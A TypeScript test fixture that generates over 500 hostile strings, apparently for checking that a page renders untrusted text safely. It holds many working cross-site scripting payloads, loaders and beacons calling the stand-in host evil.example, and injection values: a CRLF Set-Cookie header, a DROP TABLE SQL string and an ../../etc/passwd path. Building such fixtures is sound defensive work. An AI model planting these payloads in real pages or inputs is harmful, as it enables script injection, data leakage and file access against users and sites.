// Texts that would run, load or deceive if a page took them for anything but text. Each marks itself: what it would do
// is an alert, a change of `window.hit`, or a request to evil.example.

const kScripts = [
  "alert(1)", "window.hit=1", "fetch('//evil.example/f')", "location='//evil.example/l'", "document.write('<script src=//evil.example/w></script>')",
  "eval('window.hit=1')", "navigator.sendBeacon('//evil.example/b')", "new Image().src='//evil.example/i'", "import('//evil.example/m.js')",
];

// %s is a script, quotes inside allowed.
const kCarriers = [
  "<script>%s</script>", "<SCRIPT>%s</SCRIPT >", "<script/x>%s</script>", "\"><script>%s</script>", "'><script>%s</script>", "</textarea><script>%s</script>",
  "</title><script>%s</script>", "</style><script>%s</script>", "--><script>%s</script>", "]]><script>%s</script>", "<scr<script>ipt>%s</scr</script>ipt>",
  "<img src=x onerror=\"%s\">", "<img/src=x/onerror=\"%s\">", "<img src=x onerror=\"%s\"//", "\"><img src=x onerror=\"%s\">", "<img src onerror=\"%s\">",
  "<svg onload=\"%s\">", "<svg/onload=\"%s\">", "<svg><script>%s</script></svg>", "<svg><animate onbegin=\"%s\" attributeName=x dur=1s>",
  "<svg><a xlink:href=\"javascript:%s\"><text y=20>x</text></a></svg>", "<svg><foreignObject><img src=x onerror=\"%s\"></foreignObject></svg>",
  "<body onload=\"%s\">", "<iframe onload=\"%s\">", "<iframe src=\"javascript:%s\">", "<iframe srcdoc=\"<script>%s</script>\">", "<object data=\"javascript:%s\">",
  "<embed src=\"javascript:%s\">", "<details open ontoggle=\"%s\">", "<input autofocus onfocus=\"%s\">", "<select autofocus onfocus=\"%s\">",
  "<textarea autofocus onfocus=\"%s\">", "<video><source onerror=\"%s\">", "<audio src=x onerror=\"%s\">", "<marquee onstart=\"%s\">",
  "<a href=\"javascript:%s\">x</a>", "<a href=\"JaVaScRiPt:%s\">x</a>", "<a href=\"java\tscript:%s\">x</a>", "<a href=\"&#106;avascript:%s\">x</a>",
  "<form action=\"javascript:%s\"><button>x</button></form>", "<button formaction=\"javascript:%s\">x</button>", "<math><mi xlink:href=\"javascript:%s\">x</mi></math>",
  "<div style=\"animation-name:x\" onanimationstart=\"%s\">", "<x onclick=\"%s\" tabindex=1 autofocus onfocus=\"%s\">", "<template><script>%s</script></template>",
  "<noscript><p title=\"</noscript><img src=x onerror='%s'>\">", "[x](javascript:%s)", "![x](x\" onerror=\"%s)", "`<img src=x onerror=\"%s\">`", "**<b onmouseover=\"%s\">b</b>**",
  "- <img src=x onerror=\"%s\">", "# <script>%s</script>", "{{constructor.constructor('%s')()}}", "${%s}", "#{%s}", "<%= %s %>", "javascript:%s", "data:text/html,<script>%s</script>",
];

const kLoaders = [
  "<img src=\"//evil.example/a.png\">", "<img srcset=\"//evil.example/b.png 1x\">", "<link rel=stylesheet href=\"//evil.example/c.css\">", "<style>@import '//evil.example/d.css'</style>",
  "<style>*{background:url(//evil.example/e)}</style>", "<base href=\"//evil.example/\">", "<meta http-equiv=refresh content=\"0;url=//evil.example/\">", "![x](//evil.example/f.png)",
  "<iframe src=\"//evil.example/g\">", "<video poster=\"//evil.example/h\">", "<audio src=\"//evil.example/i\" autoplay>", "<form action=\"//evil.example/j\"><input type=submit autofocus>",
  "<link rel=prefetch href=\"//evil.example/k\">", "<link rel=dns-prefetch href=\"//evil.example/\">", "<object data=\"//evil.example/l\">", "<svg><image href=\"//evil.example/m\"/></svg>",
  "<svg><use href=\"//evil.example/n#x\"/></svg>", "<div style=\"background-image:url(//evil.example/o)\">", "<a href=\"//evil.example/p\" ping=\"//evil.example/q\">x</a>", "<script src=\"//evil.example/r.js\"></script>",
];

const kDeceivers = [
  "access \u202egnp.exe\u202c", "\u2066admin\u2069\u2067user\u2069", "in\u200bvis\u200dible\u2060", "\ufeffbom", "line\u2028separator\u2029", "nul\u0000bell\u0007esc\u001b[31m", "\u{e0041}\u{e0042}tags",
  "a".repeat(5000), "\u0301".repeat(300), "﷽".repeat(50), "👩‍👩‍👧‍👦".repeat(40), "&lt;script&gt;alert(1)&lt;/script&gt;", "&#x3C;img src=x onerror=alert(1)&#x3E;", "%3Cscript%3Ealert(1)%3C/script%3E",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "__proto__", "constructor", "toString", "null", "undefined", "NaN", "[object Object]", "", " ", "\n\n\n", "\r\nSet-Cookie: a=b", "'; DROP TABLE judgment; --",
  "\" or \"1\"=\"1", "../../etc/passwd", "{\"$$typeof\":1,\"type\":\"script\"}",
];

/** At least 500 different texts. */
export function hostile_texts(): string[] {
  const texts = kCarriers.flatMap((carrier) => kScripts.map((script) => carrier.replaceAll("%s", script)));
  return [...new Set([...texts, ...kLoaders, ...kDeceivers.filter((text) => text.trim() !== "")])];
}
